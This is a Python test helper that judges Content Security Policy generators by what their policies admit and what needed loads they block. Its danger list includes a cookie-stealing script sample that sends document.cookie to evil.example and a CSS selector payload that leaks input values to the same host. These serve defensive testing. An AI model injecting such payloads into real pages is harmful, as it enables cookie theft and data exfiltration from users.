"""Judging a policy: what it lets in that nobody needs, and what it breaks of the pages it is for."""

from __future__ import annotations

import json
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path

from tests.comparison.bodies import ORIGIN, Load
from tests.comparison.inputs import Input
from tests.comparison.tools import Answer
from tests.support.service import run_program

_INJECTED = "fetch('//evil.example/?'+document.cookie)"

DANGERS = (
    Load(directive="script-src-elem", url="inline", sample=_INJECTED),
    Load(directive="script-src-attr", url="inline", sample=_INJECTED),
    Load(directive="style-src-elem", url="inline", sample="input[value^=a]{background:url(//evil.example/a)}"),
    Load(directive="style-src-attr", url="inline", sample="position:fixed;inset:0"),
    Load(directive="script-src", url="eval", sample=_INJECTED),
    Load(directive="script-src-elem", url="data"),
    Load(directive="script-src-elem", url="blob"),
    Load(directive="worker-src", url="blob"),
    Load(directive="base-uri", url="https://anywhere.example/"),
    *(
        Load(directive=directive, url="https://anywhere.example/x")
        for directive in ("script-src-elem", "object-src", "frame-src", "connect-src", "form-action", "img-src")
    ),
    Load(directive="img-src", url="https://unheard-of.pixhost.example/x.png"),
)
"""What injected markup would do, and what no report of any input names."""

_KINDS = {
    "script-src": "scripts",
    "script-src-elem": "scripts",
    "script-src-attr": "handlers",
    "style-src-elem": "styles",
    "style-src-attr": "style attributes",
    "img-src": "pictures",
    "font-src": "fonts",
    "connect-src": "connections",
    "frame-src": "frames",
    "form-action": "forms",
    "worker-src": "workers",
    "object-src": "objects",
    "base-uri": "bases",
}

# What to ask the engine where a report names only a scheme.
_WHOLE_URLS = {"data": "data:text/plain,x", "blob": f"blob:{ORIGIN}/5a7d40c1"}


@dataclass(frozen=True, slots=True, kw_only=True)
class Row:
    """How a tool fared with an input; every entry in words."""

    input: str
    tool: str
    policy: str
    failure: str
    admits: Sequence[str]
    needs: int
    breaks: Sequence[str]
    """Of the `needs`, what the policy blocks."""

    breaks_untold: Sequence[str]
    """Of these, what the tool does not say either."""

    header_bytes: int


def judge(given: Input, tool: str, answer: Answer, directory: Path) -> Row:
    """Put everything dangerous and everything needed to the engine."""
    dangers, needs = (*given.strangers, *DANGERS), tuple(given.needs)
    if answer.failure:
        admits, breaks = [], list(needs)
    else:
        verdicts = _verdicts(answer.policy, (*dangers, *needs), directory)
        admits = [load for load, verdict in zip(dangers, verdicts, strict=False) if verdict != "block"]
        breaks = [load for load, verdict in zip(needs, verdicts[len(dangers) :], strict=True) if verdict != "allow"]
    return Row(
        input=given.name,
        tool=tool,
        policy=answer.policy,
        failure=answer.failure,
        admits=_in_words(admits),
        needs=len(needs),
        breaks=[_words(load) for load in breaks],
        breaks_untold=[_words(load) for load in breaks if not _is_told(load, answer.told)],
        header_bytes=len(answer.policy.encode()),
    )


def _verdicts(policy: str, loads: Iterable[Load], directory: Path) -> list[str]:
    questions = (
        {
            "policy": policy,
            "self": load.document,
            "directive": load.directive,
            "blocked": _WHOLE_URLS.get(load.url, load.url),
            "sample": load.sample,
        }
        for load in loads
    )
    text = "".join(json.dumps(question) + "\n" for question in questions)
    ran = run_program("cspbuild", "match", "--batch", "-", cwd=directory, text=text)
    assert ran.code == 0, ran.err
    return [json.loads(line)["verdict"] for line in ran.out.splitlines()]


def _is_told(load: Load, told: Iterable[tuple[str, str]]) -> bool:
    """Whether the tool names the load, or its whole origin, under the directive or the one that prints it."""
    return any(
        _family(directive) == _family(load.directive)
        and (blocked == load.reported_url or ("://" in blocked and load.url.startswith(blocked.rstrip("/") + "/")))
        for directive, blocked in told
    )


def _family(directive: str) -> str:
    return directive.removesuffix("-elem").removesuffix("-attr")


def _words(load: Load) -> str:
    kind = _KINDS[load.directive]
    match load.url:
        case "inline":
            return f"inline {kind}"
        case "eval":
            return "`eval`"
        case "data" | "blob":
            return f"`{load.url}:` {kind}"
        case url:
            return f"{kind} of {url.split('/')[2]}"


def _in_words(loads: Iterable[Load]) -> list[str]:
    return list(dict.fromkeys(map(_words, loads)))
